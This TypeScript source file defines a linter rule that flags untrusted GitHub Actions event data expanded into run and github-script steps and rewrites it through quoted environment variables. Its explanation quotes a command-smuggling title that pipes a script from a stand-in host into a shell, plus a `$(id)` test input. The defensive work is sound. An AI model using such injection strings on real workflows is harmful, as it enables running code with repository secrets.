import type { EditBuilder, TextEdit } from '../../core/edit.js';
import { defineRule } from '../../core/rule.js';
import { setKey } from '../../fixers/yaml-edit.js';
import type {
  GhaJob,
  GhaStep,
  GithubActionsDocument,
} from '../../sources/parsers/github-actions/workflow-document.js';
import type { YamlPath } from '../../sources/parsers/yaml-source.js';
import {
  type ExpressionHit,
  envNameFor,
  envReference,
  findExpressions,
  untrustedContext,
  visibleEnv,
} from './lib/expressions.js';
import { jsReplacement, type Replacement, shellReplacement } from './lib/quoting.js';
import {
  describeStep,
  PRIVILEGED_UNTRUSTED_EVENTS,
  runsBash,
  type ScalarText,
  scalarText,
  stepPath,
  triggerNames,
} from './lib/workflow.js';

interface Target {
  readonly kind: 'shell' | 'js';
  readonly label: string;
  readonly path: YamlPath;
}

function targetsOf(step: GhaStep): Target[] {
  const out: Target[] = [];
  if (step.run) out.push({ kind: 'shell', label: 'run', path: step.run.path });
  const script = step.with.get('script');
  if (step.uses?.repo === 'actions/github-script' && script && typeof script.value === 'string') {
    out.push({ kind: 'js', label: 'script', path: script.path });
  }
  return out;
}

/** Why an expression is dangerous: the untrusted context it reads, directly or through `env.X`. */
function taint(
  doc: GithubActionsDocument,
  job: GhaJob,
  step: GhaStep,
  hit: ExpressionHit,
): { context: string; envName: string | null } | null {
  const direct = untrustedContext(hit.body);
  if (direct) return { context: direct, envName: null };
  const name = envReference(hit.body);
  if (!name) return null;
  const value = visibleEnv(doc, job, step, name);
  if (value === null) return null;
  for (const inner of findExpressions(value)) {
    const context = untrustedContext(inner.body);
    if (context) return { context, envName: name };
  }
  return null;
}

function chooseEnvName(
  doc: GithubActionsDocument,
  job: GhaJob,
  step: GhaStep,
  base: string,
  expression: string,
  script: string,
): { name: string; exists: boolean } | null {
  for (let i = 1; i < 50; i++) {
    const name = i === 1 ? base : `${base}_${i}`;
    const stepValue = step.env.get(name);
    if (stepValue && String(stepValue.value) === expression) return { name, exists: true };
    const used = visibleEnv(doc, job, step, name) !== null || new RegExp(`\\$\\{?${name}\\b`).test(script);
    if (!used) return { name, exists: false };
  }
  return null;
}

function buildFix(
  e: EditBuilder,
  doc: GithubActionsDocument,
  job: GhaJob,
  step: GhaStep,
  target: Target,
  where: ScalarText,
  occurrences: ExpressionHit[],
  envName: string | null,
  context: string,
): TextEdit[] | null {
  if (target.kind === 'shell' && !runsBash(job, step)) return null;
  if (where.style === 'double') return null;
  const script = doc.text.slice(where.start, where.end);
  if (where.style === 'single' && script.includes("''")) return null;
  const expression = occurrences[0]?.text ?? '';
  const chosen = envName
    ? { name: envName, exists: true }
    : chooseEnvName(doc, job, step, envNameFor(context), expression, script);
  if (!chosen) return null;
  const edits: TextEdit[] = [];
  for (const hit of occurrences) {
    const r: Replacement | null =
      target.kind === 'shell'
        ? shellReplacement(script, hit.start, hit.end, chosen.name)
        : jsReplacement(script, hit.start, hit.end, chosen.name);
    if (!r) return null;
    if (where.style === 'plain' && r.start === 0 && /^["']/.test(r.text)) return null;
    if (where.style === 'single' && r.text.includes("'")) return null;
    edits.push(e.replace([where.start + r.start, where.start + r.end], r.text));
  }
  if (!chosen.exists) {
    const env = setKey(e, doc.source, [...step.path, 'env'], chosen.name, expression);
    if (!env) return null;
    edits.push(env);
  }
  return edits;
}

export default defineRule({
  id: 'gha/expression-injection',
  kind: 'github-actions',
  severity: 'high',
  title: 'Untrusted input expanded directly into a script',
  why: 'GitHub substitutes `${{ ... }}` into the script text before the shell runs it. An issue title, PR body, comment or branch name such as `a"; curl evil.sh | sh; "` then becomes part of the command, so anyone who can open an issue or a pull request can run code in the workflow, with its secrets and token.',
  fix: 'Pass the value through an environment variable and quote it: add `env: { TITLE: ${{ github.event.issue.title }} }` to the step and use `"$TITLE"` in the script (`process.env.TITLE` in actions/github-script). The automatic fix does exactly this.',
  verify:
    'Search the workflow for `${{ github.event.` and `${{ github.head_ref` inside `run:`/`script:` and check none remain; run the workflow with a title like `$(id)` and check it is printed literally.',
  references: [
    'CWE-78',
    'CWE-94',
    'https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections',
    'https://securitylab.github.com/resources/github-actions-untrusted-input/',
  ],
  fixable: 'auto',
  check(doc, ctx) {
    const triggers = triggerNames(doc);
    const privileged = [...triggers].some((t) => PRIVILEGED_UNTRUSTED_EVENTS.has(t));
    for (const job of doc.jobs) {
      for (const step of job.steps) {
        for (const target of targetsOf(step)) {
          const where = scalarText(doc.source, target.path);
          if (!where) continue;
          const script = doc.text.slice(where.start, where.end);
          const groups = new Map<
            string,
            { hits: ExpressionHit[]; context: string; envName: string | null }
          >();
          for (const hit of findExpressions(script)) {
            const t = taint(doc, job, step, hit);
            if (!t) continue;
            const group = groups.get(hit.text) ?? { hits: [], ...t };
            group.hits.push(hit);
            groups.set(hit.text, group);
          }
          for (const [expression, group] of groups) {
            const first = group.hits[0];
            if (!first) continue;
            const via = group.envName ? ` (via env.${group.envName})` : '';
            ctx.report({
              at: doc.lines.range(where.start + first.start, where.start + first.end),
              severity: privileged ? 'critical' : 'high',
              message: `${describeStep(job, step)} expands untrusted ${group.context}${via} directly into ${target.label}:`,
              path: stepPath(job, step, target.label, group.context),
              evidence: expression,
              fix: (e) =>
                buildFix(e, doc, job, step, target, where, group.hits, group.envName, group.context),
            });
          }
        }
      }
    }
  },
});
